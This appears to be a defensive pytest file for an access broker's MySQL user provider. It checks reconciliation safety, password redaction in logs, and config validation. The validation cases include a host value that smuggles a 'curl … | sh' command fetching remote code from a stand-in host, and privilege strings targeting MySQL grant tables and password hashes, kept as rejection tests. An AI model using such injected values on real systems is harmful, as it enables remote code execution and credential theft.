"""`mysql.user` against accounts it did not make and configs that could do harm
(found by an attack review, each a test): reconciliation never proposes a DBA's
account nor a sibling profile's live grant; a malformed admin DSN leaves no
part of its password in the log; privileges on the server's own schemas or the
expiry events are refused."""

import pytest

from audit import trail
from broker import lifecycle
from broker.catalog.load import parse_catalog
from broker.models import AccessProfile
from broker.reconcile import find_orphans
from lib.providers import ProviderConfigError, ProviderError, get_provider
from tests.support.catalogs import TEST_CATALOG
from tests.support.grants import active_grant
from tests.support.mariadb import core_profile, root_connection

PROVIDER = get_provider("mysql.user")


def _sync(mysql_target, *profiles):
    text = TEST_CATALOG + "".join(core_profile(mysql_target, slug, **cfg) for slug, cfg in profiles)
    lifecycle.catalog_sync(catalog=parse_catalog(text.encode()), info=trail.SYSTEM)


def granted(people, submit, step_up, slug="core-db"):
    grant = active_grant(people, submit, step_up, slug=slug)
    assert grant.status == "active", grant.last_error
    return grant, None


def test_reconciliation_never_targets_accounts_airlock_did_not_make(mysql_target, catalog):
    """A DBA's account (or a second Airlock admin on the same server) whose name merely
    starts with user_prefix is proposed as an orphan, and the periodic reconcile
    DROPs it after AIRLOCK_RECONCILE_REVOKE_AFTER."""
    _sync(mysql_target, ("core-db", {"privileges": [f"SELECT ON {mysql_target.core}.*"]}))
    prefix = AccessProfile.objects.get(slug="core-db").definition.provider.config["user_prefix"]
    dba = f"{prefix}reporting"
    with root_connection() as conn, conn.cursor() as cursor:
        cursor.execute("CREATE USER %s@'%%' IDENTIFIED BY 'dba-owned-pw'", [dba])
    try:
        orphans = [o.handle["user"] for o in find_orphans().orphans if o.kind == "mysql.user"]
        assert dba not in orphans, f"reconciliation would DROP the DBA's account {dba}"
    finally:
        with root_connection() as conn, conn.cursor() as cursor:
            cursor.execute("DROP USER IF EXISTS %s@'%%'", [dba])


def test_a_live_grant_is_not_an_orphan_to_a_sibling_profile(mysql_target, people, submit, step_up):
    """Two profiles on one server and prefix, the second keeping its events in
    another schema: each profile's live_handles stamps *its own* event_schema on
    every account with the prefix, so alice's live, granted account is an orphan
    "seen via core-db-b", and the periodic reconcile revokes it early."""
    other_events = mysql_target.events + "_b"
    with root_connection() as conn, conn.cursor() as cursor:
        cursor.execute(f"CREATE DATABASE IF NOT EXISTS {other_events}")
    try:
        _sync(mysql_target,
              ("core-db", {"privileges": [f"SELECT ON {mysql_target.core}.*"]}),
              ("core-db-b", {"privileges": [f"SELECT ON {mysql_target.core}.*"],
                             "event_schema": other_events}))  # fmt: skip
        grant, _ = granted(people, submit, step_up)
        try:
            flagged = [o.profile for o in find_orphans().orphans
                       if o.handle.get("user") == grant.handle["user"]]  # fmt: skip
            assert flagged == [], f"alice's live account is an orphan via {flagged}"
        finally:
            PROVIDER.revoke(grant.handle)
    finally:
        with root_connection() as conn, conn.cursor() as cursor:
            cursor.execute(f"DROP DATABASE IF EXISTS {other_events}")


def test_a_malformed_admin_dsn_puts_no_part_of_its_password_in_the_log(monkeypatch, caplog):
    """A base64 admin password with an unencoded '/' makes urlsplit read the password
    as the port: a bare ValueError whose text carries the password's first part;
    GuardedProvider keeps it out of the ProviderError but logs its traceback."""
    monkeypatch.setenv("AIRLOCK_MYSQL_DSN_LEAK", "mysql://airlock_admin:Zm9vYmFy/s3cret+x@db:3306/")
    config = {"dsn_env": "AIRLOCK_MYSQL_DSN_LEAK", "privileges": ["SELECT ON core.*"]}
    with pytest.raises(ProviderError) as raised:
        PROVIDER.healthcheck(config)
    assert "Zm9vYmFy" not in str(raised.value)
    assert "Zm9vYmFy" not in caplog.text


@pytest.mark.parametrize(
    "extra",
    [
        {"privileges": ["INSERT, UPDATE ON mysql.user"]},  # the grant tables
        {"privileges": ["SELECT ON mysql.global_priv"]},  # every password hash
        {"privileges": ["EVENT, DROP ON airlock_events.*"]},  # its own expiry event
        {"privileges": ["SELECT ON X, INSERT ON core.*"]},  # ValueError after CREATE USER
        {"user_prefix": "t_\n"},  # '$' matches before "\n"
        {"host": "db; curl https://x.example/p | sh #"},  # pasted from present()
    ],
)
def test_config_validation_gaps(extra):
    config = {"dsn_env": "AIRLOCK_MYSQL_DSN_TEST", "privileges": ["SELECT ON core.*"],
              "event_schema": "airlock_events", **extra}  # fmt: skip
    with pytest.raises(ProviderConfigError):
        PROVIDER.validate_config(config)
